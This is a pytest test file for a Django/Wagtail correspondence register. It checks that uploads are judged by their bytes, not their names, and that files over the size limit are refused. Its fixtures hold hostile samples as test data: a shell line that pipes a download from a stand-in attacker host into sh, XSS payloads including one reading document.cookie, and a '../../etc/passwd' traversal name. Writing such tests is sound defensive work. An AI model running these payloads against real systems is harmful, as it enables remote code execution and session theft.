"""Uploads are judged by their content, never by their name or the browser's word: a PDF
named like a program is a PDF (and is kept under a PDF's name); a program, a script or markup
that would run scripts is refused under any name; files over the limit are refused. Through
every way in: the admin's registration of a scan, the API's document upload (and, in
tests/test_portal.py, the portal's reply)."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.authtoken.models import Token

from wagtail_correspondence import roles
from wagtail_correspondence.models import AttachmentVersion, Correspondence, Department
from wagtail_correspondence.services import register as register_service
from wagtail_correspondence.uploads import check_content, content_name, sniff

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
REFUSED = {
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00",
    "mach-o": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
    "shell script": b"#!/bin/sh\ncurl http://attacker.example/x | sh\n",
    "html with script": b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>",
    "html fragment": b"Dear sir,\n<img src=x onerror=alert(1)><script>alert(1)</script>",
    "svg with script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "xml svg": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "javascript url": b"Please click javascript:alert(document.cookie)",
    "docm": None,  # built below: a Word document with macros
}
# Names that lie about what the refused content is.
DISGUISES = ["scan.pdf", "photo.png", "notes.txt", "letter.docx"]
REGISTER_TYPES = ["application/pdf", "image/png", "image/jpeg", "image/tiff", "text/plain", "message/rfc822",
                  "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]


def word_document(with_macros):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if with_macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
    return buffer.getvalue()


REFUSED["docm"] = word_document(with_macros=True)


@pytest.mark.parametrize("kind", REFUSED)
def test_refused_content_is_nothing_the_register_accepts(kind):
    assert sniff(REFUSED[kind]) is None
    with pytest.raises(Exception, match="This type of file is not accepted"):
        check_content(REFUSED[kind], allowed=REGISTER_TYPES, max_bytes=1024 * 1024)


def test_accepted_content_is_known_by_its_bytes():
    assert sniff(PDF) == "application/pdf" and sniff(PNG) == "image/png"
    assert sniff(word_document(with_macros=False)).endswith("wordprocessingml.document")
    # Ordinary text stays text, angle brackets and all.
    assert sniff(b"Dear sir,\nThe amount is < 100 EUR and I <b>disagree</b>.\n") == "text/plain"
    assert sniff(b"MZ Holdings thanks you for your letter.\n") == "text/plain"  # not a program: no NUL bytes


@pytest.mark.parametrize("name, content_type, expected", [
    ("invoice.exe", "application/pdf", "invoice.pdf"),
    ("scan", "image/png", "scan.png"),
    ("photo.JPEG", "image/jpeg", "photo.JPEG"),
    ("report.pdf.exe", "application/pdf", "report.pdf.pdf"),
    ("C:\\Users\\ada\\run.bat", "text/plain", "run.txt"),
    ("../../etc/passwd", "text/plain", "passwd.txt"),
])
def test_stored_names_say_what_the_file_is(name, content_type, expected):
    assert content_name(name, content_type) == expected


# Through the admin and the API ----------------------------------------------------------

ENTRIES = "/admin/correspondence/register/entries/"
API = "/api/correspondence/v1/correspondence/"


@pytest.fixture
def officer(make_user):
    user = make_user("officer", roles.OFFICERS)
    Department.add_root(instance=Department(name="Complaints", code="complaints")).members.add(user)
    return user


@pytest.fixture
def entry(officer):
    return register_service.register_entry(officer, subject="A question", kind="letter", channel="post",
                                           department=Department.objects.get(code="complaints"))


def register_with_scan(client, scan):
    return client.post(f"{ENTRIES}create/", {
        "direction": "inbound", "kind": "letter", "channel": "post", "subject": "Scanned letter",
        "priority": "normal", "confidentiality": "internal", "scan": scan})


def api_upload(client, officer, entry, upload):
    token = Token.objects.get_or_create(user=officer)[0].key
    return client.post(f"{API}{entry.reference}/attachments/", {"file": upload}, HTTP_AUTHORIZATION=f"Token {token}")


@pytest.mark.parametrize("kind", REFUSED)
@pytest.mark.parametrize("name", DISGUISES[:2])
def test_the_admin_refuses_a_disguised_scan(client, officer, kind, name):
    client.force_login(officer)
    response = register_with_scan(client, SimpleUploadedFile(name, REFUSED[kind], "application/pdf"))
    assert response.status_code == 400
    assert "not accepted" in " ".join(response.context["form"].errors["scan"])
    assert not Correspondence.objects.exists() and not AttachmentVersion.objects.exists()


def test_the_admin_accepts_a_pdf_under_any_name(client, officer):
    client.force_login(officer)
    assert register_with_scan(client, SimpleUploadedFile("scan.exe", PDF, "application/x-msdownload")).status_code == 302
    version = AttachmentVersion.objects.get()
    assert version.content_type == "application/pdf"
    # Stored and downloaded under the name of what it is, not the name it came with.
    assert version.filename == "scan.pdf" and version.file.name.endswith(".pdf")
    download = client.get(f"/admin/correspondence/register/{version.attachment.correspondence_id}/attachments/"
                          f"{version.pk}/")
    assert 'filename="scan.pdf"' in download["Content-Disposition"]


def test_plain_text_named_like_a_program_is_kept_as_text(officer, entry):
    version = register_service.add_attachment(officer, entry, SimpleUploadedFile("run.bat", b"Dear Sir,\n"))
    assert (version.content_type, version.filename) == ("text/plain", "run.txt")


@pytest.mark.parametrize("kind", REFUSED)
@pytest.mark.parametrize("name", DISGUISES[2:])
def test_the_api_refuses_a_disguised_document(client, officer, entry, kind, name):
    response = api_upload(client, officer, entry, SimpleUploadedFile(name, REFUSED[kind], "text/plain"))
    assert response.status_code == 400 and "not accepted" in response.json()["file"][0]
    assert not AttachmentVersion.objects.exists()


def test_the_api_keeps_a_pdf_named_like_a_program_as_a_pdf(client, officer, entry):
    response = api_upload(client, officer, entry, SimpleUploadedFile("invoice.exe", PDF, "application/x-msdownload"))
    assert response.status_code == 201
    version = AttachmentVersion.objects.get()
    assert (version.content_type, version.filename) == ("application/pdf", "invoice.pdf")
    assert version.file.name.endswith(".pdf")


def test_the_size_limit_holds_in_the_admin_and_the_api(client, officer, entry, settings):
    limit = 2 * 1024 * 1024
    settings.WAGTAIL_CORRESPONDENCE = {**settings.WAGTAIL_CORRESPONDENCE,
                                       "REGISTER": {**settings.WAGTAIL_CORRESPONDENCE["REGISTER"],
                                                    "MAX_UPLOAD_BYTES": limit}}
    too_big = PDF + b"0" * limit
    response = api_upload(client, officer, entry, SimpleUploadedFile("big.pdf", too_big))
    assert response.status_code == 400 and "larger than 2 MB" in response.json()["file"][0]
    client.force_login(officer)
    response = register_with_scan(client, SimpleUploadedFile("big.pdf", too_big))
    assert response.status_code == 400 and "larger than 2 MB" in " ".join(response.context["form"].errors["scan"])
    assert Correspondence.objects.count() == 1 and not AttachmentVersion.objects.exists()
    # Just under the limit is fine.
    assert api_upload(client, officer, entry, SimpleUploadedFile("ok.pdf", too_big[:limit])).status_code == 201
